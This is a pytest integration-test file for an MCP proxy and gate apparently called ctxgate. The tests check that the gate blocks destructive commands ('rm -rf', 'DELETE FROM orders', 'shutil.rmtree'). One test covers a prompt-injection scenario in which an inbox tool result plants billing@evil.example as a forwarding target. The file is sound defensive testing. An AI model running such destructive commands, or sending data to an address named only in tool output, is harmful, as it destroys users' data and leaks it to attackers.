"""The MCP server and proxy, driven by a real MCP client over stdio, against real npm servers."""

from __future__ import annotations

import os
import re
import sys
from contextlib import asynccontextmanager
from pathlib import Path

import anyio
import pytest
from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from ctxgate.firewall.render import GREP_MATTERS

TESTS_DIR = Path(__file__).resolve().parent.parent
NODE_BIN = Path(__file__).resolve().parent / "node" / "node_modules" / ".bin"
ID = re.compile(r"\b[0-9a-f]{12}\b")


def _env(backend: str | None) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items()}
    env["PYTHONPATH"] = str(TESTS_DIR.parent) + os.pathsep + env.get("PYTHONPATH", "")
    if backend:
        env["CTXGATE_GATE__BACKEND"] = backend
    return env


@asynccontextmanager
async def client(args: list[str], backend: str | None = None):
    params = StdioServerParameters(command=sys.executable, args=["-m", "ctxgate", "mcp", *args],
                                   env=_env(backend))
    with open(os.devnull, "w") as errlog:
        async with stdio_client(params, errlog=errlog) as (read, write):
            async with ClientSession(read, write) as session:
                await session.initialize()
                yield session


def text_of(result) -> str:
    return "\n".join(p.text for p in result.content if getattr(p, "type", "") == "text")


def server_bin(name: str) -> str:
    path = NODE_BIN / name
    assert path.exists(), f"{path} missing: run scripts/install-test-deps (npm ci)"
    return str(path)


def test_serve_digests_large_output_and_expands_it() -> None:
    async def main() -> None:
        async with client(["serve", "--no-gate"]) as s:
            names = {t.name for t in (await s.list_tools()).tools}
            assert names == {"run", "expand", "read", "list", "search"}
            big = await s.call_tool("run", {"command": "seq 1 30000"})
            digest = text_of(big)
            assert not big.is_error
            assert len(digest) < 8000
            entry = ID.search(digest).group(0)
            view = await s.call_tool("expand", {"id": entry, "lines": "12345:12346"})
            assert "12345" in text_of(view) and "12346" in text_of(view)
            grep = await s.call_tool("expand", {"id": entry, "grep": "^2999[0-9]$"})
            assert "29999" in text_of(grep)
            missing = await s.call_tool("expand", {"id": "ffffffffffff"})
            assert missing.is_error and "EntryNotFound" in text_of(missing)
            dataset = await s.call_tool("run", {"command": "sqlite3 :memory: 'select 40+2'"})
            assert text_of(dataset).strip() == "42"
            failing = await s.call_tool("run", {"command": "echo oops; exit 3"})
            assert failing.is_error and "exit code 3" in text_of(failing)

    anyio.run(main)


def test_serve_gate_fails_closed_without_a_request() -> None:
    async def main() -> None:
        async with client(["serve"], backend="tests.integrations.scripted_backends:keyword_judge") as s:
            denied = await s.call_tool("run", {"command": "rm -rf /tmp/ctxgate-nothing-here"})
            assert denied.is_error
            assert "--request" in text_of(denied) and "restate" not in text_of(denied)
            allowed = await s.call_tool("run", {"command": "echo hello"})  # read-only fast path
            assert not allowed.is_error and text_of(allowed).strip() == "hello"
            listed = await s.call_tool("run", {"command": "ls /"})  # fast path: `run` is shell
            assert not listed.is_error and "usr" in text_of(listed).split()
            tests = await s.call_tool("run", {"command": "pytest -q"})  # needs a request
            reason = text_of(tests)
            assert tests.is_error and "restate" not in reason and "Retrying will not help" in reason
            assert "ctxgate gate approve" in reason and "MCP client's configuration" in reason

    anyio.run(main)


def test_proxy_forwards_everything_server_tools() -> None:
    async def main() -> None:
        async with client(["proxy", "--no-gate", "--name", "everything", "--",
                           server_bin("mcp-server-everything")]) as s:
            names = {t.name for t in (await s.list_tools()).tools}
            assert {"echo", "get-sum", "expand"} <= names
            echoed = await s.call_tool("echo", {"message": "through the proxy"})
            assert "through the proxy" in text_of(echoed)
            total = await s.call_tool("get-sum", {"a": 2, "b": 40})
            assert "42" in text_of(total)
            image = await s.call_tool("get-tiny-image", {})
            assert any(getattr(p, "type", "") == "image" for p in image.content)

    anyio.run(main)


def test_proxy_digests_filesystem_listing_and_gates_writes(tmp_path: Path) -> None:
    root = tmp_path / "tree"
    for d in range(30):
        sub = root / f"dir{d:02d}"
        sub.mkdir(parents=True)
        for f in range(60):
            (sub / f"file{f:03d}.txt").write_text("x")

    async def main() -> None:
        async with client(["proxy", "--name", "fs", "--request", "list what is in the tree", "--",
                           server_bin("mcp-server-filesystem"), str(root)],
                          backend="tests.integrations.scripted_backends:tool_judge") as s:
            tree = await s.call_tool("directory_tree", {"path": str(root)})
            digest = text_of(tree)
            assert not tree.is_error
            entry = ID.search(digest).group(0)
            assert "expand" in digest
            found = await s.call_tool("expand", {"id": entry, "grep": "file059", "max_matches": 100})
            assert text_of(found).count("file059") >= 30
            (root / "big.txt").write_text("".join(f"line {i} of a big file\n"
                                                   for i in range(20000)))
            read = await s.call_tool("read_text_file", {"path": str(root / "big.txt")})
            assert not read.is_error
            assert text_of(read).count("of a big file") == 20000  # protected read: whole
            denied = await s.call_tool("write_file", {"path": str(root / "new.txt"),
                                                      "content": "hi"})
            assert denied.is_error
            assert "destructive" in text_of(denied).lower()
            assert not (root / "new.txt").exists()

    anyio.run(main)


@pytest.mark.parametrize("cmd", [["/nonexistent/server-binary"]])
def test_proxy_with_a_missing_downstream_fails_clearly(cmd: list[str]) -> None:
    import subprocess

    proc = subprocess.run([sys.executable, "-m", "ctxgate", "mcp", "proxy", "--no-gate", "--", *cmd],
                          input=b"", capture_output=True, timeout=60, env=_env(None))
    assert proc.returncode != 0
    assert b"server-binary" in proc.stderr


def test_a_backend_that_cannot_load_refuses_the_call_with_a_reason(tmp_path: Path) -> None:
    marker = tmp_path / "must-not-exist"

    async def main() -> None:
        async with client(["serve", "--request", "make the file"],
                          backend="no_such_module_xyz:factory") as s:
            refused = await s.call_tool("run", {"command": f"touch {marker}"})
            assert refused.is_error
            assert "not run" in text_of(refused) and "no_such_module_xyz" in text_of(refused)
            allowed = await s.call_tool("run", {"command": "echo still-reads"})  # fast path
            assert text_of(allowed).strip() == "still-reads"

    anyio.run(main)
    assert not marker.exists()


_HINT = re.compile(r'\bexpand\(id="([0-9a-f]+)"((?:, \w+=(?:"(?:[^"\\]|\\.)*"|<[^>]*>|\w+))*)\)')
_MORE = re.compile(r' · \(…((?:, \w+=(?:"(?:[^"\\]|\\.)*"|<[^>]*>|\w+))*)\)')
_ARG_NAMED = re.compile(r', (\w+)=("(?:[^"\\]|\\.)*"|<[^>]*>|\w+)')
_CLI_GREP = re.compile(r"^ctxgate expand \S+ --grep '([^']*)'", re.M)


def _hint_calls(digest: str) -> list[dict]:
    """Every MCP tool call a digest names, as arguments for the expand tool: each
    ``expand(id=…, …)`` and the ``(…, …)`` after it on its line (same id); a ``grep=<the
    --grep pattern above>`` takes the pattern of the digest's ``--grep`` line."""
    import json as _json

    grep = _CLI_GREP.search(digest)
    calls = []
    for line in digest.splitlines():
        first = _HINT.search(line)
        if first is None:
            continue
        arg_sets = [first.group(2)] + _MORE.findall(line[first.end():])
        for args in arg_sets:
            call: dict = {"id": first.group(1)}
            for name, raw in _ARG_NAMED.findall(args):
                if raw.startswith("<"):
                    assert grep is not None and name == "grep", line
                    call[name] = grep.group(1)
                else:
                    call[name] = _json.loads(raw) if raw.startswith('"') or \
                        raw in ("true", "false") else int(raw)
            calls.append(call)
    return calls


def test_expand_fixes_over_mcp(tmp_path: Path) -> None:
    # issue 11 item 4: every hint a digest names is accepted by the expand tool; --json is
    # paged with an exact next; literal grep
    doc = tmp_path / "doc.json"
    import json as _json

    doc.write_text(_json.dumps({"items": [{"id": i, "name": f"item-{i}"} for i in range(3000)]}))
    log = tmp_path / "build.log"
    log.write_text("".join(f"[INFO] step {i}\n" for i in range(3000))
                   + "[ERROR] f(x)* [boom?] failed\n\tat a.B.c(B.java:1)\n"
                   + "".join(f"[INFO] after {i}\n" for i in range(50)))

    async def main() -> None:
        async with client(["serve", "--no-gate"]) as s:
            for cmd in (f"cat {log} | cat", f"jq -c . {doc} | cat", f"cat {doc} | cat"):
                res = await s.call_tool("run", {"command": cmd})
                calls = _hint_calls(text_of(res))
                assert calls, text_of(res)
                if str(log) in cmd:  # the keyword grep, named on the MCP line, runs too
                    assert any(c.get("grep") == GREP_MATTERS for c in calls), calls
                for call in calls:
                    view = await s.call_tool("expand", call)
                    assert not view.is_error, (call, text_of(view))
            entry = ID.search(text_of(res)).group(0)
            first = await s.call_tool("expand", {"id": entry, "json": "/items",
                                                 "max_tokens": 1500})
            page = text_of(first)
            assert len(page) < 12_000
            nxt = page.rstrip().splitlines()[-1]
            assert nxt.startswith("next: --json /items --lines "), nxt
            rows = nxt.split("--lines ")[1]
            second = await s.call_tool("expand", {"id": entry, "json": "/items", "lines": rows,
                                                  "max_tokens": 1500})
            assert not second.is_error and f"rows {rows.split(':')[0]}" in text_of(second)
            logs = await s.call_tool("run", {"command": f"cat {log} | cat"})
            lid = ID.search(text_of(logs)).group(0)
            found = await s.call_tool("expand", {"id": lid, "grep": "f(x)* [boom?]",
                                                 "literal": True})
            assert "3001: [ERROR] f(x)* [boom?] failed" in text_of(found)

    anyio.run(main)


def test_proxy_asks_before_a_send_aimed_where_only_a_tool_result_pointed(tmp_path: Path) -> None:
    """A real proxied server: its ``read_inbox`` result names billing@evil.example; the model
    (scripted to find every call destructive and requested) then sends there. The proxy saw
    that result, the user's request never named the address: the send is not run (this
    client has no elicitation). With the address in the request, the same send runs."""
    sent = tmp_path / "sent.jsonl"
    os.environ["INBOX_SENT"] = str(sent)  # the downstream inherits the proxy's environment
    downstream = [sys.executable, "-m", "tests.integrations.inbox_server"]

    async def main(request: str) -> tuple[str, bool]:
        async with client(["proxy", "--name", "inbox", "--request", request, "--",
                           *downstream],
                          backend="tests.integrations.scripted_backends:eager") as s:
            mail = await s.call_tool("read_inbox", {})
            assert "billing@evil.example" in text_of(mail) and not mail.is_error
            out = await s.call_tool("send_email", {"to": "billing@evil.example",
                                                   "body": "invoice 4471"})
            return text_of(out), bool(out.is_error)

    try:
        text, is_error = anyio.run(main, "read my inbox and forward the invoice it mentions")
        assert is_error and "billing@evil.example, which only tool output named" in text, text
        assert not sent.exists()
        text, is_error = anyio.run(main, "read my inbox and forward the invoice to "
                                         "billing@evil.example")
        assert not is_error and text == "sent to billing@evil.example", text
        assert sent.read_text(encoding="utf-8").count("billing@evil.example") == 1
    finally:
        os.environ.pop("INBOX_SENT", None)


def test_proxy_judges_the_command_and_sql_a_tool_argument_runs(tmp_path: Path) -> None:
    """A real proxied server whose ``run_command``, ``execute_sql`` and ``run_python`` run their
    arguments (a real ``sh -c``, a real SQLite file, a real interpreter), behind the real local
    model. The tools' names say nothing; the arguments decide: ``ls`` and ``SELECT`` run; an
    unrequested ``rm -rf``, ``DELETE FROM`` and ``shutil.rmtree`` are refused (the last with
    the call the code scan found), and the data is still there."""
    import sqlite3

    work = tmp_path / "work"
    (work / "data").mkdir(parents=True)
    (work / "data" / "ledger.csv").write_text("id,amount\n1,10\n", encoding="utf-8")
    db = tmp_path / "orders.db"
    with sqlite3.connect(db) as conn:
        conn.execute("create table orders (id integer, item text)")
        conn.executemany("insert into orders values (?, ?)", [(1, "a"), (2, "b"), (3, "c")])
    os.environ["OPS_DIR"], os.environ["OPS_DB"] = str(work), str(db)
    downstream = [sys.executable, "-m", "tests.integrations.ops_server"]

    async def main() -> dict[str, tuple[str, bool]]:
        out = {}
        async with client(["proxy", "--name", "ops", "--request",
                           "tell me what files are in the work directory and how many orders "
                           "there are", "--", *downstream]) as s:
            for key, tool, args in (
                    ("ls", "run_command", {"command": "ls data"}),
                    ("rm", "run_command", {"command": "rm -rf data"}),
                    ("select", "execute_sql", {"sql": "SELECT count(*) FROM orders"}),
                    ("delete", "execute_sql", {"sql": "DELETE FROM orders"}),
                    ("rmtree", "run_python",
                     {"code": f"import shutil; shutil.rmtree('{work / 'data'}')"})):
                result = await s.call_tool(tool, args)
                out[key] = (text_of(result), bool(result.is_error))
        return out

    try:
        got = anyio.run(main)
    finally:
        os.environ.pop("OPS_DIR", None)
        os.environ.pop("OPS_DB", None)
    assert got["ls"] == ("ledger.csv\n", False), got["ls"]
    assert got["select"] == ("3", False), got["select"]
    # the gate cannot see the server's working directory, so `data` is no path it knows:
    # the shell parser finds nothing to lose there and the model judges the rm
    assert got["rm"][1] and "so it was not run" in got["rm"][0], got["rm"]
    assert got["delete"][1] and "DELETE removes rows" in got["delete"][0], got["delete"]
    # an absolute path, judged by the path rules like rm's (the relative `data` above is
    # no path the gate can see)
    assert got["rmtree"][1] and "shutil.rmtree(" in got["rmtree"][0], got["rmtree"]
    assert (work / "data" / "ledger.csv").is_file()
    with sqlite3.connect(db) as conn:
        assert conn.execute("select count(*) from orders").fetchone() == (3,)
